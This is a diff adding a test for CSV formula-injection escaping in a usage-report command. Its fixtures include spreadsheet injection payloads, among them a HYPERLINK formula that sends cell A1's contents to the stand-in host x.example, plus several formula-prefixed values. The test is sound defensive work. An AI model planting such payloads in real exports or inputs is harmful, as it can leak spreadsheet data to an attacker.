@@ -221,6 +221,35 @@ describe('switchyard report totals', () => {
   });
 });
 
+describe('switchyard report --format csv with values whoever mints keys chose', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'report-csv-'));
+  const db = join(dir, 'ledger.sqlite');
+  const keys = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'a,b "c"\nd', 'plain-key'];
+  beforeAll(async () => {
+    const store = await SqlLedgerStore.open(openSqlite(db));
+    // One request per key, the key's name also in a tag; the costs order the rows as `keys` lists them.
+    await store.insert(keys.map((key, i) => toUsageEvent(attempt({ requestId: `csv-${i}`, startedAt: D('2025-06-01'), tags: { key, project: key } }), { usd: keys.length - i, priced: true })));
+    await store.close();
+  });
+
+  it('starts a value a spreadsheet would run as a formula with a quote, and quotes commas, quotes and newlines', async () => {
+    const c = io();
+    expect(await main(['report', '--sqlite', db, '--from', '2025-06-01', '--to', '2025-06-01', '--group-by', 'key,tag:project', '--format', 'csv'], c.io)).toBe(0);
+    const cellsOf = (line: string) => line.split(',1,1,')[0];
+    const lines = c.out.join('\n').split('\r\n').slice(1);
+    expect(lines.map(cellsOf)).toEqual([
+      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")","'=HYPERLINK(""http://x.example/?""&A1,""open"")"`,
+      "'+1+2,'+1+2",
+      "'-2+3,'-2+3",
+      `"'@SUM(1,1)","'@SUM(1,1)"`,
+      "'\t=1+1,'\t=1+1",
+      `"'\r=1+1","'\r=1+1"`,
+      '"a,b ""c""\nd","a,b ""c""\nd"',
+      'plain-key,plain-key',
+    ]);
+  });
+});
+
 describe('report --advise', () => {
   const ptuConfig = (monthly: number) =>
     resolveConfig({
